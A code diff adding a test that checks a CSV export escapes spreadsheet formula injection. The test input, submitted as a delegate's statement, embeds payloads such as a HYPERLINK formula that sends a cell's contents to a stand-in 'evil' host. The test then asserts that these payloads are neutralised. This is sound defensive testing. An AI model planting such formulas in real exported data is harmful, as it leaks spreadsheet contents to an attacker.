@@ -83,6 +83,20 @@ test('a table: a row for each intervention, every text as it was, nothing that a
   assert.deepEqual([first, second, third].map((row) => row.header_hash.replace(/^'/, '')), headers);
 });
 
+test('a table: no cell is a formula, whether cells end at commas or, as in other countries, at semicolons and line breaks', async (t) => {
+  const server = await startServer(t, { config: await dialogueOf(t, { hall: '' }) });
+  const author = await connect(t, server, { token: await server.token({ role: 'delegate', name: 'Ana;=1' }) });
+  await author.request('intervention.submit', statement('hall', 'Thank you;=HYPERLINK("http://evil/?"&A1);and\n=1+1;x\n@SUM(1);y'));
+  const file = await succeed(operator(t, { config: server.config, dataDir: server.dataDir })('export', '--room', 'hall', '--format', 'csv'));
+  const [row] = readTable(file);
+  assert.equal(row.text, 'Thank you;\'=HYPERLINK("http://evil/?"&A1);and\n\'=1+1;x\n\'@SUM(1);y');
+  assert.equal(row.name, "Ana;'=1");
+  for (const cells of [Object.values(row), file.split(/[;\t\r\n]/)]) {
+    assert.ok(cells.length > 10);
+    for (const cell of cells) assert.doesNotMatch(cell, /^[\s"]*[=+\-@]/, cell);
+  }
+});
+
 test('a page in the language that was asked for; an unknown one is a mistake that names those there are', async (t) => {
   const server = await startServer(t);
   const author = await connect(t, server, { token: await server.token({ role: 'delegate', name: 'Ana' }) });
